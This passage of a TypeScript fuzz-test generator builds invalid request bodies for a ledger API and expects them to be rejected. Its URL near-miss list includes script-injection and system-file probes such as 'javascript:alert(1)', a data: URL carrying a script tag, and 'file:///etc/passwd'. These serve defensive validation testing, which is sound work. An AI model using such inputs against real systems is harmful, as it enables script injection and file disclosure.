  '^\\+?[0-9]{10,15}$': ['123', '+7701555012x', '++77015550123', '8 701 555 01 23', `+7${'1'.repeat(16)}`, '+', ''],
};
const RULE_MISSES: Partial<Record<NonNullable<Field['rule']>, readonly string[]>> = {
  email: ['zhanar', 'zhanar@', '@example.kz', 'zhanar@@example.kz', 'zh anar@example.kz', 'a@b', ''],
  url: [
    'ftp://acredit.kz/p',
    'acredit.kz/p',
    'javascript:alert(1)',
    'https://',
    'http://exa mple.kz/p',
    '//acredit.kz/p',
    'file:///etc/passwd',
    `https://${'a'.repeat(2100)}.kz`,
    'data:text/html,<script>alert(1)</script>',
    '',
  ],
};

/** Near misses of a valid value: for codes and enums unless allowed, for patterns unless they match. */
function variantsOf(valid: string): string[] {
  const variants = [valid.toUpperCase(), ` ${valid}`, `${valid} `, `${valid}\u0000`, `${valid.replace(/-/g, '_')}_`];
  return [...variants, `-${valid}`, `${valid}--x`, `${valid}/x`, `${valid}#`, 'x'.repeat(300), ''];
}

function nearMisses(f: Field, valid: string): string[] {
  if (f.rule === 'uuid') return uuidMisses(valid);
  if (f.rule === 'code' || f.rule === 'enum') return variantsOf(valid).filter((m) => !(f.allowed ?? []).includes(m));
  if (f.rule === 'pattern' && f.pattern) {
    const own = variantsOf(valid).filter((m) => !f.pattern!.test(m));
    return [...new Set([...(PATTERN_MISSES[f.pattern.source] ?? []), ...own])];
  }
  return [...(RULE_MISSES[f.rule!] ?? [])];
}

const WRONG_BODIES = (base: Body): Json[] => [[base], 'body', 42, true, null, []];

/** Classes whose cases are enumerated, not sampled: every required field, wrong type and near miss. */
export const ENUMERATED: Record<string, (spec: CommandSpec, ctx: FuzzContext) => Draft[]> = {
  'missing-field': (spec) => {
    const base = spec.base();
    const required = spec.fields.filter((f) => f.required && getAt(base, f.path) !== undefined);
    return [
      ...required.map((f) => ({
        detail: `without ${show(f.path)}`,
        body: setAt(base, f.path, undefined),
        expect: [400],
      })),
      // A command with nothing required (a subscriber's replay or removal) takes {} as it is.
      ...(required.length > 0 ? [{ detail: 'empty object', body: {}, expect: [400] }] : []),
    ];
  },
  'wrong-type': (spec) => {
    const base = spec.base();
    return [
      ...fieldsIn(spec, base, () => true).flatMap((f) =>
        wrongTypes(f).map((value) => ({
          detail: `${show(f.path)} = ${JSON.stringify(value).slice(0, 40)}`,
          body: setAt(base, f.path, value),
          expect: [400],
        })),
      ),
      ...WRONG_BODIES(base).map((body) => ({
        detail: `body is ${JSON.stringify(body).slice(0, 20)}`,
        body,
        expect: [400],
      })),
    ];
  },
  'deep-nesting': (spec, ctx) => {
    // Under every field and as the whole body, objects and arrays by turns, at depths from 16 to the
    // most the body limit allows: a transform that recurses must stop at its bound, not the stack's.
    const base = spec.base();
    const targets: (Field | undefined)[] = [undefined, ...fieldsIn(spec, base, () => true)];
    return targets.map((field, i) => {
      const objects = i % 2 === 0;
      const most = Math.floor(ctx.bodyLimit / (objects ? 6 : 2)) - 200;
      const depth = Math.min([16, 100, 2_000, 30_000, most][i % 5], most);
      const nested = objects
        ? `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`
        : `${'['.repeat(depth)}${']'.repeat(depth)}`;
      const raw = field ? JSON.stringify(setAt(base, field.path, '@@DEEP@@')).replace('"@@DEEP@@"', nested) : nested;
      const where = field ? show(field.path) : 'the body';
      return { detail: `${objects ? 'objects' : 'arrays'} nested ${depth} deep in ${where}`, raw, expect: [400, 413] };
    });
  },
  'long-string': (spec) => {
    // Every string field, far past any length a field of the ledger takes but under the body limit.
    const base = spec.base();
    return fieldsIn(spec, base, (f) => f.type === 'string').map((f, i) => {
      const unit = ['a', '9', 'ж', 'a-'][i % 4];
      const text = unit.repeat(Math.floor((4_000 + ((i * 7_919) % 24_000)) / unit.length));
      return { detail: `${show(f.path)} of ${text.length} characters`, body: setAt(base, f.path, text), expect: [400] };
    });
  },
  'bad-format': (spec) => {
    const base = spec.base();
    return fieldsIn(spec, base, (f) => f.type === 'string').flatMap((f) =>
      nearMisses(f, (getAt(base, f.path) as string | undefined) ?? f.allowed?.[0] ?? 'x').map((value) => ({
        detail: `${show(f.path)} = ${JSON.stringify(value).slice(0, 60)}`,
        body: setAt(base, f.path, value),
        expect: [400],
      })),
    );
  },
};

function refusal(r: Refusal): Draft {
  return { detail: r.detail, url: r.url, body: r.body, expect: r.expect, codes: r.codes };
}

/** Percent-encodes a path segment; a lone surrogate has no UTF-8 form, so it goes as the bytes it would have had. */
function encodePathSegment(text: string): string {
  try {
    return encodeURIComponent(text);
  } catch {
    return '%ED%A0%80';
  }
}

function parses(text: string): boolean {
  try {
    JSON.parse(text.replace(/^\uFEFF/, ''));
    return true;
  } catch {
    return false;
  }
}

/** Adds `"key":value` text as the first member of the object at `at` in the serialised body. */
function insertKey(text: string, body: Body, at: Path, member: string): string {
  const marker = '"@@FUZZ@@":0';
  const withMarker =
    at.length === 0 ? { '@@FUZZ@@': 0, ...body } : setAt(body, at, { '@@FUZZ@@': 0, ...(getAt(body, at) as Body) });
  const serialised = JSON.stringify(withMarker);
  if (!serialised.includes(marker)) throw new Error(`no object at ${show(at)} in ${text.slice(0, 80)}`);
  return serialised.replace(marker, member);
}
